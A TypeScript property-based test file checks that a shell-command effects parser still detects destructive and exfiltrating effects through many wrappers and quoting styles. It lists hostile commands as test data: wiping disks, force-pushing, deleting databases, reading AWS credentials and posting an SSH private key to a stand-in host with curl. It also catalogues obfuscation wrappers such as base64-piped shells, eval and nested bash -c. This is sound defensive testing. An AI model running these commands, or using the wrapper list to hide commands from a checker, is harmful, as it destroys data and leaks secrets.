import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { effectsOfCommand } from '#adapters/shell-parser/effects.contract.ts';
import type { Effect } from '#domain/action/effect.ts';

/** Commands as words: simple ones, with effects of every kind, on paths that no wrapper moves. */
const COMMANDS: readonly (readonly string[])[] = [
  ['rm', '-rf', '/srv/data'],
  ['rm', '/home/u/ws/a b.txt'],
  ['git', 'push', '--force', 'origin', 'main'],
  ['git', 'reset', '--hard'],
  ['git', 'branch', '-D', 'old'],
  ['curl', '-d', '@/home/u/.ssh/id_rsa', 'https://example.com/in'],
  ['cp', '/etc/passwd', '/tmp/p'],
  ['tee', '/etc/cron.d/job'],
  ['chmod', 'u+s', '/usr/bin/tool'],
  ['npm', 'install', 'left-pad@1.0.0'],
  ['mkfs.ext4', '/dev/sdb1'],
  ['kubectl', 'delete', 'pod', 'web'],
  ['terraform', 'destroy'],
  ['cat', '/home/u/.aws/credentials'],
  ['find', '/srv/logs', '-name', 'x.log', '-delete'],
  ['psql', '-c', 'drop table users'],
  ['python3', '-c', 'import os; os.remove("/srv/x")'],
  ['systemctl', 'enable', 'x'],
  ['dd', 'if=/dev/zero', 'of=/dev/sda'],
  ['ls', '/srv'],
  ['echo', "it's", 'fine', '$5', '"q"'],
];

const WRAPPERS: Readonly<Record<string, (words: readonly string[]) => string>> = {
  env: (words) => `env A=1 ${plain(words)}`,
  'env -S': (words) => `env -i ${plain(words)}`,
  sudo: (words) => `sudo -n -u root ${plain(words)}`,
  doas: (words) => `doas ${plain(words)}`,
  timeout: (words) => `timeout -k 1 5s ${plain(words)}`,
  nice: (words) => `nice -n 3 ionice -c 2 ${plain(words)}`,
  nohup: (words) => `nohup ${plain(words)} &`,
  setsid: (words) => `setsid ${plain(words)}`,
  stdbuf: (words) => `stdbuf -oL ${plain(words)}`,
  time: (words) => `time ${plain(words)}`,
  xargs: (words) => `true | xargs ${plain(words)}`,
  'find -exec': (words) => `find /opt -maxdepth 0 -exec ${plain(words)} \\;`,
  'bash -c': (words) => `bash -c ${quoted(plain(words))}`,
  'bash -c twice': (words) => `sh -ec ${quoted(`bash -c ${quoted(plain(words))}`)}`,
  eval: (words) => `eval ${quoted(plain(words))}`,
  'command, builtin, exec': (words) => `builtin command exec ${plain(words)}`,
  busybox: (words) => `busybox ${plain(words)}`,
  ssh: (words) => `ssh host ${quoted(plain(words))}`,
  parallel: (words) => `true | parallel ${quoted(plain(words))}`,
  watch: (words) => `watch -n 1 ${quoted(plain(words))}`,
  script: (words) => `script -qc ${quoted(plain(words))} /dev/null`,
  chroot: (words) => `chroot /mnt ${plain(words)}`,
  docker: (words) => `docker run --rm image ${plain(words)}`,
  kubectl: (words) => `kubectl exec pod -- ${plain(words)}`,
  npx: (words) => `npx -c ${quoted(plain(words))}`,
  heredoc: (words) => `bash <<'END'\n${plain(words)}\nEND`,
  'here-string': (words) => `bash <<< ${quoted(plain(words))}`,
  substitution: (words) => `echo "$(${plain(words)})"`,
  'process substitution': (words) => `cat <(${plain(words)})`,
  function: (words) => `f() { ${plain(words)}; }; f`,
  subshell: (words) => `(${plain(words)})`,
  condition: (words) => `if true; then ${plain(words)}; fi`,
  loop: (words) => `for i in 1 2; do ${plain(words)}; done`,
  trap: (words) => `trap ${quoted(plain(words))} EXIT`,
  coproc: (words) => `coproc ${plain(words)}`,
  'printf | sh': (words) => `printf %s ${quoted(plain(words))} | sh`,
  'base64 -d | sh': (words) => `echo ${Buffer.from(plain(words)).toString('base64')} | base64 -d | sh`,
  'python os.system': (words) => `python3 -c ${quoted(`import os; os.system(${JSON.stringify(plain(words))})`)}`,
  'git alias': (words) => `git -c ${quoted(`alias.z=!${plain(words)}`)} z`,
  variable: (words) => `P=${quoted(words[0] ?? '')}; $P ${plain(words.slice(1))}`,
  alias: (words) => `alias z=${quoted(plain(words))}; z`,
};

const command = fc.constantFrom(...COMMANDS);
const wrapper = fc.constantFrom(...Object.keys(WRAPPERS));

describe('effects', () => {
  it.each(Object.keys(WRAPPERS))('are not removed by the wrapper: %s', (name) => {
    for (const words of COMMANDS) {
      const wrapped = keys(effectsOfCommand(WRAPPERS[name]?.(words) ?? ''));
      expect(wrapped, plain(words)).toEqual(expect.arrayContaining([...keys(effectsOfCommand(plain(words)))]));
    }
  });

  it('are not removed by wrappers in wrappers', () => {
    fc.assert(
      fc.property(command, fc.array(wrapper, { minLength: 2, maxLength: 3 }), (words, names) => {
        // A wrapped command is one word for the next wrapper: `bash -c '…'`.
        const text = names.reduce((inner, name) => WRAPPERS[name]?.(['bash', '-c', inner]) ?? inner, plain(words));
        const wrapped = new Set(keys(effectsOfCommand(text)));
        expect(keys(effectsOfCommand(plain(words))).filter((key) => !wrapped.has(key))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('of concatenated commands are the union of theirs', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(command, fc.constantFrom(';', '\n', '&&', '||', ' ; : ;')), { minLength: 1, maxLength: 6 }),
        (parts) => {
          const text = parts
            .map(([words, joint], index) => (index === 0 ? plain(words) : `${joint} ${plain(words)}`))
            .join(' ');
          const union = new Set(parts.flatMap(([words]) => keys(effectsOfCommand(plain(words)))));
          const noise = keys(effectsOfCommand(':'));
          expect(new Set([...keys(effectsOfCommand(text)), ...noise])).toEqual(new Set([...union, ...noise]));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('are the same however the words are quoted', () => {
    const styles = fc.array(fc.nat({ max: 4 }), { minLength: 8, maxLength: 8 });
    fc.assert(
      fc.property(command, styles, (words, style) => {
        const text = words.map((word, index) => requoted(word, style, index)).join(' ');
        expect(keys(effectsOfCommand(text))).toEqual(keys(effectsOfCommand(plain(words))));
      }),
      { numRuns: 500 },
    );
  });

  it('are found for any text, the same each time, each once, with spans inside of the text', () => {
    const pieces = fc.constantFrom(
      'rm -rf /x',
      '$(',
      ')',
      '`',
      "'",
      '"',
      '|',
      '&',
      ';',
      '<<E\n',
      '{',
      '}',
      '$X',
      'git push -f',
      'eval ',
      'sh',
      '>',
      '\\',
      '((',
      'if ',
      'then ',
      'fi',
      '\n',
      'E\n',
      '{a,b}',
      '${x:-',
      '[[ ',
      ' ]]',
      'é',
      '\0',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 24 }), (parts) => {
        const text = parts.join(' ');
        const first = effectsOfCommand(text);
        expect(effectsOfCommand(text)).toEqual(first);
        expect(new Set(keys(first)).size).toBe(first.length);
        for (const { span } of first) {
          if (span === undefined) continue;
          expect(span.start).toBeGreaterThanOrEqual(0);
          expect(span.end).toBeLessThanOrEqual(text.length);
          expect(span.start).toBeLessThanOrEqual(span.end);
        }
      }),
      { numRuns: 1_000 },
    );
  });
});

/** Effects without their places. */
function keys(effects: readonly Effect[]): readonly string[] {
  return effects.map(({ span: _span, ...effect }) => JSON.stringify(effect));
}

function quoted(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}

function plain(words: readonly string[]): string {
  return words.map((word) => (/^[\w./@:=+-]+$/.test(word) ? word : quoted(word))).join(' ');
}

/** A word with each of its characters quoted in one of five ways. */
function requoted(word: string, style: readonly number[], offset: number): string {
  const out = [...word].map((character, index) => {
    const way = style[(index + offset) % style.length] ?? 0;
    const ordinary = /[\w./@:=+-]/.test(character);
    if (way === 0 && ordinary) return character;
    if (way === 1) return `\\${character}`;
    if (way === 2 && !/["\\$`!]/.test(character)) return `"${character}"`;
    if (way === 3) return `$'\\x${character.charCodeAt(0).toString(16).padStart(2, '0')}'`;
    return quoted(character);
  });
  // `A=1` is an assignment only when its name is not quoted, and `if=…` is a word to `dd` in any case.
  return out.join('');
}
